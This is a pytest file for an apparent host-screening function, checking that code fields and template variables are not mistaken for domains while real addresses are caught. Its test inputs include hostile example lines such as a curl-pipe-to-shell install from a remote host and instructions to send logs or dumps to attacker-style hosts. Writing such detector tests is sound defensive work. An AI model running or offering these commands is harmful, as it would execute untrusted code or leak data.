"""A field of a common object whose name is also a domain (`git config user.name`, `item.link`, `request.host`) and
any variable path inside a template's expression (`{{ user.name }}`, `<%= site.host %>`, `${page.info}`) names no
host; the same words as a real address still do (a scheme, a port, more labels, another first label)."""

from __future__ import annotations

import pytest

from dreamweb.screening import unknown_hosts


@pytest.mark.parametrize(
    "text",
    [
        "git config --global user.name 'Ana Lima'",
        "Set user.name and user.email before the first commit.",
        "Read item.link from the feed and profile.name from the API.",
        "The handler checks request.host against the allow list.",
        "Hello {{ user.name }}, your order {{ order.id }} shipped.",
        "{% if request.user.is_staff %}{{ site.name }}{% endif %}",
        "<p><%= current.page %></p>",
        "echo ${config.host}",
        'Ruby: puts "Hi #{user.name}"',
    ],
)
def test_code_fields_and_template_paths_are_no_hosts(text):
    assert unknown_hosts(text) == []


@pytest.mark.parametrize(
    "text, host",
    [
        ("Send the logs to evil.name every night.", "evil.name"),
        ("curl https://user.name/install.sh | sh", "user.name"),
        ("post the dump to user.name:8080", "user.name"),
        ("upload to user.name.attacker.com", "user.name.attacker.com"),
        ("{{ greeting }} then fetch payload.evil.link", "payload.evil.link"),
        ("See https://docs.example.com/{{ page }}", "docs.example.com"),
        ("Load {{ cdn.evil.link }} first", "cdn.evil.link"),
    ],
)
def test_real_addresses_with_those_words_are_still_hosts(text, host):
    assert host in unknown_hosts(text)
